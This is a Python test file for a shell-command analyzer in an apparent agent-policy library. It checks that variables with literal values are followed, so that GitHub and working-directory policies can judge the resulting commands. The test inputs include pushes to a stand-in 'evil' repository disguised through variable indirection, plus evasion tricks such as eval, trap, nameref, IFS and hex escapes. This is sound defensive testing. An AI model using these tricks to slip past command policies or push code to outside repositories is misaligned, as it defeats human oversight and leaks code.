"""Variables assigned a literal earlier in the line are followed where their value is certain
(``_shell_values``); anywhere else they stay run-time words (so policies ASK)."""

from __future__ import annotations

import pytest

from goalrail.policies.builtins._shell import analyze
from goalrail.policies.builtins.github import github_policy
from goalrail.policies.builtins.working_dir import block_working_dir_changes
from tests.unit.builtins.builtin_events import shell_event

EVIL = "https://github.com/evil/repo main"
GH = github_policy(write_repos=["myorg/app"])
WD = block_working_dir_changes(allowed_dirs=["/work/repo"])


def _verdict(policy: object, command: str) -> str:
    out = policy(shell_event(command))  # type: ignore[operator]
    return "ALLOW" if out is None else out["result"]


@pytest.mark.parametrize(
    ("command", "argv"),
    [
        ("X=git; $X push", ("git", "push")),
        ("X=git; ${X} push", ("git", "push")),
        ('G="git push -f"; $G', ("git", "push", "-f")),
        ('G="git  push"; "$G"', ("git  push",)),
        ("export C=git; $C status", ("git", "status")),
        ("readonly C=git; $C status", ("git", "status")),
        ('A=git; B="$A push"; $B', ("git", "push")),
        ("A=/usr; $A/bin/git status", ("/usr/bin/git", "status")),
        ('D=src; echo "$D/x"', ("echo", "src/x")),
        ("E=; $E git status", ("git", "status")),
        ("X=git && $X status", ("git", "status")),
        ("X=ls; X=git; $X status", ("git", "status")),
    ],
)
def test_followed_values_are_written_in(command: str, argv: tuple[str, ...]) -> None:
    cmd = analyze(command).commands[-1]
    assert cmd.argv == argv
    assert not any(cmd.dynamic)


@pytest.mark.parametrize(
    "command",
    [
        "X=ls; f() { $X push; }; X=git; f",  # a body runs later
        "f() { X=git; $X push; }; f",  # a body's own assignments are not followed
        "X=git & $X push",  # in a background job
        "true || X=git; $X push",  # the second of a chain
        "X=git cmd; $X push",  # a command prefix
        "X=ls; read X; $X push",
        "X=ls; unset X; $X push",
        "X=ls; eval X=git; $X push",
        "X=ls; (( X++ )); $X push",
        "X=ls; exec {X}>/dev/null; $X push",
        "X=ls; trap 'X=git' DEBUG; $X push",
        "X=ls; declare -n r=X; r=git; $X push",
        "IFS=/; X=a/git; $X push",
        "X=$'\\x67it'; $X push",
        "X=$(cat name); $X push",
        "X='git*'; $X push",
        "X='git \"push\"'; $X",  # quotes in a value are not read again
        "X=git; X+=x; $X push",
        "PWD=/x; $PWD push",
    ],
)
def test_values_not_certain_stay_run_time(command: str) -> None:
    analysis = analyze(command)
    assert analysis.unknown, analysis


@pytest.mark.parametrize(
    ("command", "argvs"),
    [
        ("X=ls; for i in 1 2; do $X push; X=git; done", {("ls", "push"), ("git", "push")}),  # written in a loop
        ("X=ls; if true; then X=git; fi; $X push", {("ls", "push"), ("git", "push")}),  # in a condition
        ("X=ls; (X=git); $X push", {("ls", "push")}),  # a subshell's assignment stays there
        ("X=ls; : ${X:=git}; $X push", {("ls", "push")}),  # already set
        ("X=; : ${X:=git}; $X push", {("git", "push")}),
        ("X=$(echo git); $X push", {("git", "push")}),  # a substitution the line spells (`_shell_outputs`)
        ("X=`printf %s git`; $X push", {("git", "push")}),
    ],
)
def test_every_value_a_path_may_give_is_judged(command: str, argvs: set[tuple[str, ...]]) -> None:
    analysis = analyze(command)
    assert {c.argv for c in analysis.commands if "push" in c.argv} == argvs
    assert not analysis.unknown, analysis


@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        (f"X=git; $X push --force {EVIL}", "DENY"),
        (f'G="git push"; $G {EVIL}', "DENY"),
        (f'export CMD="git push {EVIL}"; $CMD', "DENY"),
        ("U=https://github.com/evil/repo; git push $U main", "DENY"),
        (f'G="git push"; "$G" {EVIL}', "ASK"),
        (f"X=ls; for i in 1 2; do $X push {EVIL}; X=git; done", "DENY"),
        ("X=git; $X status", "ALLOW"),
        ("B=feature/x; git push https://github.com/myorg/app $B", "ALLOW"),
        ('V=1.2; docker build -t "app:$V" . && docker run --rm "app:$V" pytest', "ALLOW"),
    ],
)
def test_github_policy_judges_followed_values(command: str, verdict: str) -> None:
    assert _verdict(GH, command) == verdict


@pytest.mark.parametrize(
    ("command", "verdict"),
    [
        ("D=/etc; cd $D", "DENY"),
        ('D=/etc; git -C "$D" status', "DENY"),
        ("D=/work/repo/src; cd $D && ls", "ALLOW"),
        ('D=src; cd "$D" && ls', "ALLOW"),
        ("OUT=build; mkdir -p $OUT && make -C $OUT", "ALLOW"),
        ("D=/work/repo; true && D=/etc; cd $D", "DENY"),
    ],
)
def test_working_dir_judges_followed_values(command: str, verdict: str) -> None:
    assert _verdict(WD, command) == verdict
